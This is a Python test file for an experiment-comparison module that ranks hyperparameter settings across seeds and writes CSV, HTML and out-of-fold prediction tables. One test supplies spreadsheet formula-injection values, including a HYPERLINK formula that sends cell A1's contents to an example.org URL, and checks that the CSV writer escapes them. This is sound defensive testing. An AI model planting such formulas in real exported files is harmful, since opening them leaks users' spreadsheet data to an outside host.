"""Runs side by side: a setting's results over its seeds, and the best setting."""

from __future__ import annotations

import csv
import math
from dataclasses import replace
from pathlib import Path
from typing import Any

from regrow.record import comparison, side_by_side
from regrow.record.comparison import Row
from regrow.record.report import Run


def row(number: int, swept: dict[str, str], value: float | None, mode: str = "max") -> Row:
    best = {"metric": "val/accuracy", "value": value, "step": 1}
    summary: dict[str, Any] = {
        "best": best, "val": {"val/accuracy": value, "val/f1/zero": 0.5},
        "test": {"test/accuracy": 0.5}, "weights_sha256": f"{number}" * 8,
    }  # fmt: skip
    state = "failed" if value is None else "completed"
    run = Run(
        folder=Path(f"{number}"), name="x", status={"state": state}, summary=summary, manifest={},
        config={"trainer": {"mode": mode}}, overrides=[], lines=[],
    )  # fmt: skip
    reason = None if value is not None else "it broke"
    return Row(f"{number}", state, swept, swept.get("seed"), run, f"{number}", reason, "logs/x")


def grid(values: dict[str, list[float | None]], mode: str = "max") -> list[Row]:
    jobs = [(lr, seed, v) for lr, its in values.items() for seed, v in enumerate(its)]
    return [row(i, {"lr": lr, "seed": f"{seed}"}, v, mode) for i, (lr, seed, v) in enumerate(jobs)]


def test_settings_are_ordered_by_their_mean_and_told_apart() -> None:
    found = comparison.compare(
        grid({"1": [0.50, 0.51, 0.49], "2": [0.90, 0.91, 0.89], "3": [0.92, 0.88, 0.91]})
    )
    assert [setting.label for setting in found.settings] == ["lr=3", "lr=2", "lr=1"]
    header, rows = comparison.table_of(found)
    assert header[-1] == "verdict"
    assert [cells[-1] for cells in rows] == ["best", "within the noise", "worse"]
    assert rows[1][header.index("runs")] == "3" and " ± " in rows[1][header.index("val/accuracy")]
    assert found.best is not None and found.best.swept == {"lr": "3", "seed": "0"}


def test_small_values_keep_their_digits() -> None:
    values = {"1": [3.1e-5, 3.3e-5, 3.2e-5], "2": [5.1e-5, 5.2e-5, 5.4e-5]}
    header, rows = comparison.table_of(comparison.compare(grid(values, mode="min")))
    best, other = (dict(zip(header, cells, strict=True)) for cells in rows)
    assert best["val/accuracy"] == "3.2e-05 ± 1e-06" and best["verdict"] == "best"
    assert other["from the best"] == "+2.03e-05" and other["verdict"] == "worse"
    assert [comparison.shown(it) for it in (0.0, 1e-3, 0.5, 123.45, math.inf)] == [
        *("0.0000", "0.0010", "0.5000", "123.5", "inf")
    ]


def test_less_is_better_where_the_mode_says_so() -> None:
    found = comparison.compare(grid({"1": [0.5, 0.4], "2": [0.9, 0.8]}, mode="min"))
    assert [setting.label for setting in found.settings] == ["lr=1", "lr=2"]
    assert found.best is not None and found.best.value("val/accuracy") == 0.4


def test_a_run_chosen_by_another_metric_is_left_out_and_listed() -> None:
    rows = grid({"1": [0.5, 0.6, 0.7], "2": [0.1]})
    other = rows[3]
    assert other.run is not None
    other.run.summary["best"]["metric"] = "val/loss"  # type: ignore[index]
    other.run.summary["val"].clear()
    found = comparison.compare(rows)
    assert found.metric == "val/accuracy" and list(found.left_out) == [other]
    assert found.best is not None and found.best.value("val/accuracy") == 0.7
    by_loss = comparison.compare(rows, "val/loss", "min")
    assert by_loss.best is other


def test_a_seed_that_was_run_twice_counts_once() -> None:
    rows = [row(i, {"lr": "1", "seed": seed}, 0.5) for i, seed in enumerate("0012")]
    (setting,) = comparison.compare(rows).settings
    assert setting.monitored.count == 3


def test_a_seed_that_was_run_twice_with_another_result_is_named() -> None:
    values = {"0": 0.5, "1": 0.5, "2": 0.6}
    rows = [
        row(i, {"lr": "1", "seed": seed}, value) for i, (seed, value) in enumerate(values.items())
    ]
    assert comparison.compare(rows).repeated == []
    other = row(3, {"lr": "1", "seed": "2"}, 0.7)  # as of other code
    found = comparison.compare([*rows, other, row(4, {"lr": "1", "seed": "1"}, 0.5)])
    assert found.repeated == [other] and found.settings[0].monitored.count == 3


def test_a_run_without_a_monitor_is_compared_by_its_last_weights_or_named() -> None:
    rows = grid({"1": [0.5], "2": [0.9], "3": [0.7], "4": [0.1]})
    for number, value in ((2, 0.7), (3, None)):
        run = rows[number].run
        assert run is not None
        run.summary["best"] |= {"metric": None, "value": None}  # type: ignore[index]
        run.summary["val"]["val/accuracy"] = value  # type: ignore[index]
    found = comparison.compare(rows)
    assert [setting.label for setting in found.settings] == ["lr=2", "lr=3", "lr=1"]
    assert found.left_out == [rows[3]]
    assert comparison.compare(rows[3:]).left_out == []  # without a metric, nothing lacks it


def test_a_setting_is_one_however_it_was_typed() -> None:
    swept = [{"lr": "1e-3", "wd": "0", "seed": "0"}, {"wd": "0", "lr": "0.001", "seed": "1"}]
    (setting,) = comparison.compare([row(i, its, 0.5) for i, its in enumerate(swept)]).settings
    assert setting.monitored.count == 2 and setting.label == "lr=1e-3 wd=0"
    swept = [{"act": "relu", "seed": "0"}, {"act": "gelu", "seed": "1"}]
    assert len(comparison.compare([row(i, its, 0.5) for i, its in enumerate(swept)]).settings) == 2


def test_settings_that_differ_in_the_last_digit_are_two() -> None:
    runs = [row(i, {}, 0.5).run for i in range(2)]
    runs = [
        replace(run, config={**run.config, "data": {"source": {"seed": 20261128 + i}}})
        for i, run in enumerate(runs) if run is not None
    ]  # fmt: skip
    found = comparison.compare(comparison.rows_of(runs))
    assert [its.label for its in found.settings] == [
        "data.source.seed=20261128", "data.source.seed=20261129"
    ]  # fmt: skip


def test_an_override_that_all_runs_have_is_in_no_label_whatever_its_sign() -> None:
    runs = [
        replace(
            run,
            overrides=["+model.extra=1", "~local", f"optimizer.lr={lr}"],
            config={**run.config, "optimizer": {"lr": lr}},
        )
        for lr in (0.1, 0.2)
        if (run := row(0, {}, 0.5).run) is not None
    ]
    assert [its.swept for its in comparison.rows_of(runs)] == [
        {"optimizer.lr": "0.1"}, {"optimizer.lr": "0.2"}
    ]  # fmt: skip


def test_the_direction_is_that_of_the_runs_that_monitored_the_metric() -> None:
    rows = grid({"1": [0.5], "2": [0.9]})
    last = row(9, {"lr": "3", "seed": "0"}, 0.1, mode="min")
    assert last.run is not None
    last.run.summary["best"] = {"metric": "val/loss", "value": 0.1, "step": 1}  # type: ignore[index]
    last.run.summary["val"]["val/accuracy"] = 0.7  # type: ignore[index]
    found = comparison.compare([*rows, last])
    assert found.mode == "max"
    assert [setting.label for setting in found.settings] == ["lr=2", "lr=3", "lr=1"]


def test_a_run_that_was_pruned_is_in_no_mean() -> None:
    runs = [r.run for r in grid({"1": [0.5, 0.6], "2": [0.9]}) if r.run is not None]
    assert len(comparison.compare(comparison.rows_of(runs)).settings[0].rows) == 3
    runs[2].summary["pruned"] = True  # type: ignore[index]
    found = comparison.compare(comparison.rows_of(runs))
    assert [r.state for r in found.rows] == ["completed", "completed", "pruned"]
    assert sum(len(setting.rows) for setting in found.settings) == 2


def test_another_metric_that_is_nan_for_one_seed_is_shown_as_nan(tmp_path: Path) -> None:
    rows = grid({"1": [0.5, 0.6, 0.7]})
    assert rows[1].run is not None
    rows[1].run.summary["test"]["test/accuracy"] = math.nan  # type: ignore[index]
    found = comparison.compare(rows)
    header, (cells,) = comparison.table_of(found)
    assert cells[header.index("test/accuracy")] == "nan"
    page = side_by_side.write_page(found, tmp_path / "page.html").read_text(encoding="utf-8")
    assert "<dt>test/accuracy<dd>nan" in page


def test_one_seed_each_claims_nothing() -> None:
    header, rows = comparison.table_of(comparison.compare(grid({"1": [0.5], "2": [0.9]})))
    assert header == ["setting", "runs", "val/accuracy", "test/accuracy"]
    assert [cells[0] for cells in rows] == ["lr=2", "lr=1"]


def test_a_failed_job_is_in_the_table_and_not_in_a_mean(tmp_path: Path) -> None:
    rows = grid({"1": [0.5, None], "2": [0.9, 0.8]})
    found = comparison.compare(rows)
    assert [setting.monitored.count for setting in found.settings] == [2, 1]
    comparison.write_csv(rows, tmp_path / "results.csv")
    with (tmp_path / "results.csv").open(newline="") as file:
        written = list(csv.DictReader(file))
    assert [*written[0]] == [
        "job", "status", "lr", "seed", "val/accuracy", "test/accuracy", "weights_sha256",
        "folder", "reason", "log",
    ]  # fmt: skip
    assert [line["status"] for line in written] == ["completed", "failed", "completed", "completed"]
    assert written[1]["reason"] == "it broke" and written[1]["weights_sha256"] == ""


def test_nothing_is_compared_where_nothing_came_out() -> None:
    found = comparison.compare(grid({"1": [None]}))
    assert found.settings == [] and found.best is None
    assert comparison.compare([]).rows == []


def test_no_cell_of_the_table_is_a_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
    rows = [
        Row(formula, "failed", {formula: "@x"}, 0, None, "+folder", "\tit broke", "-log"),
        Row("1", "failed", {formula: " =1+1"}, 0, None, "-1.5", "\uff1d1", "logs/1.log"),
    ]
    comparison.write_csv(rows, tmp_path / "results.csv")
    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as file:
        header, first, second = csv.reader(file)
    assert header[2] == f"'{formula}"
    assert first == [f"'{formula}", "failed", "'@x", "", "'+folder", "'\tit broke", "'-log"]
    assert second == ["1", "failed", "' =1+1", "", "-1.5", "'\uff1d1", "logs/1.log"]


def test_predictions_of_folds_of_other_classes_stand_under_their_own_columns(
    tmp_path: Path,
) -> None:
    rows, written = [], []
    for number, (data, classes) in enumerate({"two": "ab", "three": "abc"}.items()):
        run = row(number, {}, 0.5).run
        assert run is not None
        folder = tmp_path / data
        folder.mkdir()
        its = {"example": "0", "target": "a", **{f"probability/{name}": name for name in classes}}
        with (folder / "predictions_test.csv").open("w", newline="") as file:
            writer = csv.DictWriter(file, [*its][::-1] if data == "three" else [*its])
            writer.writeheader()
            writer.writerow(its)
        run = replace(run, folder=folder, config={"data": {"folds": 3, "fold": 0}})
        rows.append(Row(data, "completed", {"data": data, "data.fold": "0"}, 0, run, data))
        written.append({"data": data, "fold": "0", "probability/c": "", **its})
    comparison.write_out_of_fold(rows, tmp_path / "all.csv")
    with (tmp_path / "all.csv").open(newline="") as file:
        assert [*csv.DictReader(file)] == written
